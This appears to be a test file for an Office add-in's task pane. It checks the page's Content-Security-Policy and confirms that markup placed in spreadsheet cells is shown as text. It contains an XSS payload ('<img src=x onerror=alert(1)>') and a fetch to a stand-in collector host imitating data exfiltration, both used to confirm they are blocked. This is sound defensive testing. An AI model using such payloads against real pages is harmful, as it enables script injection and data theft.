// The page's defences: its Content-Security-Policy, declared and enforced, and text from cells kept as text.
import { createHash } from "crypto";
import { checkStep } from "./support/artifacts";
import { useBrowsing } from "./support/browsing";
import { builtPage, declaredPolicy, policyPosition } from "./support/csp";
import { exampleCampaign } from "./support/example-campaign";
import { cspRefusals, openPane, PaneSession, selectCells } from "./support/pane-page";
import { StandInSetup } from "./stand-in/contract";

const browsing = useBrowsing();
const OFFICE_CDN = "https://appsforoffice.microsoft.com";
const EMPTY_STYLE_HASH = `'sha256-${createHash("sha256").update("").digest("base64")}'`;
const MARKUP = "<img src=x onerror=alert(1)>";

describe("the Content-Security-Policy of dist/taskpane.html", () => {
  const policy = declaredPolicy(builtPage());

  it("is declared before anything it governs is loaded", () => {
    const { policy: at, firstResource } = policyPosition(builtPage());
    expect(at).toBeGreaterThan(-1);
    expect(at).toBeLessThan(firstResource);
  });

  it("allows nothing but this add-in's origin and the Office CDN", () => {
    const allowed = ["'self'", "'none'", OFFICE_CDN, EMPTY_STYLE_HASH];
    const others = [...policy].flatMap(([name, sources]) =>
      sources.filter((source) => !allowed.includes(source)).map((source) => `${name} ${source}`)
    );
    expect(others).toEqual([]);
    expect(policy.get("default-src")).toEqual(["'self'"]);
    expect(policy.get("script-src")).toEqual(["'self'", OFFICE_CDN]);
    expect(policy.get("style-src")).toEqual(["'self'", EMPTY_STYLE_HASH]);
  });

  it("shuts out plugins, a changed base URL and form posts", () => {
    expect(policy.get("object-src")).toEqual(["'none'"]);
    expect(policy.get("base-uri")).toEqual(["'none'"]);
    expect(policy.get("form-action")).toEqual(["'none'"]);
  });
});

describe("the pane in the browser", () => {
  let session: PaneSession;

  beforeAll(async () => {
    const { context, origin } = browsing();
    session = await openPane(context, origin, exampleCampaign("en-US"));
    await session.page.waitForSelector('fluent-button[data-key="use-posts"]');
  });

  afterAll(() => session?.page.close());

  const refusedSince = async (count: number) =>
    (await cspRefusals(session.page)).slice(count).map(({ directive }) => directive);

  it("runs no string as code", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() => {
      // In a task of the page's own: code evaluated by the test tool itself is exempt from the CSP.
      const attempt = (run: () => unknown) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              resolve(`ran: ${run()}`);
            } catch (error) {
              resolve((error as Error).name);
            }
          })
        );
      // eslint-disable-next-line no-eval -- the CSP must refuse exactly this
      return Promise.all([attempt(() => eval("1 + 1")), attempt(() => new Function("return 1"))]);
    });
    expect(outcome).toEqual(["EvalError", "EvalError"]);
    expect(await refusedSince(before)).toEqual(["script-src", "script-src"]);
  });

  it("runs no inline script, inline handler or inline style", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.inline = 'ran'";
      document.head.append(script);
      const button = document.createElement("button");
      button.setAttribute("onclick", "document.body.dataset.handler = 'ran'");
      document.body.append(button);
      button.click();
      button.remove();
      const style = document.createElement("style");
      style.textContent = "body { outline: 7px solid red }";
      document.head.append(style);
      const { inline, handler } = document.body.dataset;
      return [inline, handler, getComputedStyle(document.body).outlineStyle];
    });
    expect(outcome).toEqual([undefined, undefined, "none"]);
    expect(await refusedSince(before)).toEqual([
      "script-src-elem",
      "script-src-attr",
      "style-src-elem",
    ]);
  });

  it("connects to no other site", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() =>
      fetch("https://collector.example/cells?value=1").then(
        () => "sent",
        () => "refused"
      )
    );
    expect(outcome).toBe("refused");
    expect(await refusedSince(before)).toEqual(["connect-src"]);
    expect(session.requests.filter((request) => request.blocked)).toEqual([]);
  });
});

/** A posts table whose sheet name, one header and one number cell each hold markup. */
function markupWorkbook(): StandInSetup {
  const values = [
    ["Creator", MARKUP, "Impressions"],
    ["Mia Brews", 1, 8000],
    ["Coffee Lab Leo", 2, MARKUP],
  ];
  return { displayLanguage: "en-US", sheets: [{ name: MARKUP, data: [{ at: "A1", values }] }] };
}

describe("markup in the user's cells", () => {
  it("shows as text in the mapping, the source's address and the problems, and never runs", async () => {
    const { context, origin } = browsing();
    const { page, errors, requests } = await openPane(context, origin, markupWorkbook());
    await page.waitForSelector('fluent-button[data-key="use-posts"]');
    await selectCells(page, MARKUP, "A1");
    await page.click('fluent-button[data-key="use-posts"]');
    await page.waitForSelector('fluent-button[data-key="remove-posts"]');
    const posts = page.locator('[data-kind="posts"]');
    expect(await posts.locator(".header").allTextContents()).toEqual([
      "Creator",
      MARKUP,
      "Impressions",
    ]);
    expect(await posts.locator(".where").textContent()).toBe(`${MARKUP}!A1:C3: 2 data rows`);
    expect(await posts.locator(".problems").textContent()).toContain(`"${MARKUP}"`);
    const images = await page.evaluate(() => {
      const count = (root: Document | ShadowRoot): number =>
        root.querySelectorAll("img").length +
        Array.from(root.querySelectorAll("*")).reduce(
          (sum, element) => sum + (element.shadowRoot ? count(element.shadowRoot) : 0),
          0
        );
      return count(document);
    });
    expect(images).toBe(0);
    expect(requests.filter((request) => new URL(request.url).pathname === "/x")).toEqual([]);
    expect(errors).toEqual([]);
    expect(await checkStep(page, "markup-in-cells")).toEqual({ cutText: [], inaccessible: [] });
    await page.close();
  });
});
